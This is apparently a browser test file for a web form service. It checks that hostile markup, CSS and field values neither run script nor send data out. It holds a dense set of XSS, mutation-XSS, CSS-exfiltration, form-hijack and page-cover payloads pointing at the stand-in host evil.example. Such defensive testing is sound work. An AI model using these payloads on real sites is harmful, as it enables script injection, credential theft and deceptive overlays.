"""A document that wants to run, to send elsewhere and to cover the page: nothing of it happens in a real browser."""

from screens import DESKTOP

EVIL = "https://evil.example"
HTML = f"""
<script>window.ran = 1; fetch("{EVIL}/script")</script>
<img src=x onerror="window.ran = 2"><img src="{EVIL}:8443/pixel.png" alt="" onload="window.ran = 3">
<svg onload="window.ran = 4"><script>window.ran = 5</script><a xlink:href="javascript:window.ran=6"><text>x</text></a>
<animate onbegin="window.ran = 7" attributeName="x" dur="1s"/>
<use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/>
<foreignObject><iframe src="{EVIL}/frame"></iframe></foreignObject></svg>
<iframe srcdoc="<script>parent.ran = 8</script>"></iframe><object data="{EVIL}/o"></object><embed src="{EVIL}/e">
<meta http-equiv="refresh" content="0;url={EVIL}/refresh"><base href="{EVIL}/base/">
<link rel="stylesheet" href="{EVIL}/sheet.css"><style>body {{ background: url({EVIL}/style) }}</style>
<form action="{EVIL}/form" id="theirs"><input name="token" value="mine">
<button name="action">Send it all</button></form>
<button form="wf" formaction="{EVIL}/button">Press</button><input type="image" src="{EVIL}/i" formaction="{EVIL}/image">
<a href="javascript:window.ran=9" id="link">link</a><a href=" jAvAsCript:window.ran=10" id="link2">link</a>
<a href="data:text/html,<script>opener.ran=11</script>" id="link3">link</a>
<math>
<mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=12&gt;"></table></math>
<noscript><p title="</noscript><img src=x onerror=window.ran=13>"></noscript>
<p title="{{form-name-element}}" id="wf-name">in an attribute</p><div id="wf-faults-title" class="wf-strip">ours?</div>
<div style="position:fixed;inset:0;z-index:99999;background:url({EVIL}/attr);color:red" class="cover">cover</div>
<video src="{EVIL}/v" autoplay onerror="window.ran=14"></video><details open ontoggle="window.ran=15">d</details>
<p>{{form-name-element}}</p>{{form-buttons-placeholder}}
<textarea><p></textarea><plaintext>
"""
CSS = f"""
@import url("{EVIL}/import.css"); @import "{EVIL}/import2.css";
@font-face {{ font-family: x; src: url({EVIL}/font) }}
body {{ background: url("{EVIL}/body"); font-family: x }}
html::before, body::before {{ content: "cover"; position: fixed; inset: 0; background: red; z-index: 9999999 }}
body, html, form, .wf-strip, .wf-faults {{ display: none !important }}
* {{ visibility: hidden; opacity: 0 !important; }}
input[value^="s"] {{ background: url({EVIL}/typed-s); --x: url({EVIL}/var); background: \\75rl({EVIL}/escaped) }}
input[name="f.name"] {{ background-image: image-set("{EVIL}/set" 1x);
  list-style: url({EVIL}/list); cursor: url({EVIL}/c) }}
.cover {{ position: fixed; inset: -100vh; z-index: 2147483647 }}
}} /* out of the layer */ @layer guard {{ .wf-strip {{ display: none !important }} }}
</style><script>window.ran = 16</script><style>
"""
TYPED = "secret\"'><script>window.ran=17</script><img src=x onerror=window.ran=18>"
PRESS = """async (which) => {
  for (const one of document.querySelectorAll(which)) {
    one.removeAttribute("target");
    one.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  }
  await fetch(location.pathname + "/state");
}"""
"""Presses everything, and waits for an answer that comes after whatever that began."""

ON_TOP = """one => {
  one.scrollIntoView({ block: "center" });
  const box = one.getBoundingClientRect();
  return one.contains(document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2));
}"""
"""Whether a part is what the eye meets where it stands."""


def _document(label):
    fields = [
        {"type": "html", "html": HTML},
        {
            "type": "text",
            "name": "name",
            "label": label,
            "placeholder": '"><script>window.ran=19</script>',
            "tooltip": "' onmouseover='window.ran=20",
            "required": True,
            "minLength": 90,
            "replaceWithInHtml": "{form-name-element}",
        },
    ]
    nodes = [
        {"id": "a", "type": "form", "name": "</title><script>window.ran=21</script>", "fields": fields, "on_next": "b",
         "on_next_button_label": '<img src=x onerror="window.ran=22">Go'},
        {"id": "b", "type": "form", "fields": [{"type": "html", "html": "<main><h1>There</h1></main>"}]},
    ]  # fmt: skip
    workflow = {
        "version": "v1",
        "name": "<script>window.ran=23</script>",
        "type": "x",
        "styleSheet": CSS,
        "nodes": nodes,
    }
    markup = {"type": "html", "html": HTML}
    return {**workflow, "header": markup, "footer": markup}


def test_a_hostile_document_runs_nothing_and_sends_nothing(service, devices):
    _, url = service.instance(_document("Name <script>window.ran=24</script>"))
    page = devices.device(DESKTOP)
    sent = devices.sent_elsewhere(page, service.origin)
    page.goto(url)
    name = page.locator('input[name="f.name"]')
    assert name.is_visible()
    name.fill(TYPED)
    page.evaluate(PRESS, "a")
    page.locator("p, div, details").first.hover(force=True)
    page.locator("button[type=submit]").first.click()
    alert = page.get_by_role("alert")
    assert "at least 90 characters" in alert.inner_text()
    assert page.locator('input[name="f.name"]').input_value() == TYPED
    for part in (alert, page.locator(".wf-strip").last, page.locator("button[type=submit]").first):
        assert part.evaluate(ON_TOP)
    page.locator('input[name="f.name"]').fill("secret" * 20)
    page.locator("button[type=submit]").first.click()
    page.locator('[data-at="1.pending"]').wait_for(state="attached")
    assert page.evaluate("window.ran") is None
    assert devices.complaints == []
    assert set(sent) == {f"{EVIL}:8443/pixel.png"}
    assert all(method == "GET" or one.startswith(service.origin) for method, one, _ in devices.requests)
    assert all("secret" not in one for _, one, _ in devices.requests)


def test_nothing_runs_where_the_policy_is_all_there_is(service, devices):
    """Even markup that came through unchanged would not run, load or be sent: the policy alone stops it."""
    _, url = service.instance(_document("Name"))
    page = devices.device(DESKTOP)
    sent = devices.sent_elsewhere(page, service.origin)
    markup = HTML.replace('http-equiv="refresh"', "")

    def unsanitised(route):
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace('<div class="wf-part wf-head">', f"<div>{markup}", 1))

    page.route("**/wf_instance/wfi-*", unsanitised)
    page.goto(url)
    assert page.locator("#theirs").count() == 1
    page.evaluate(PRESS, "#theirs button, button[formaction], input[formaction], a")
    assert page.evaluate("window.ran") is None
    assert set(sent) <= {f"{EVIL}:8443/pixel.png"}
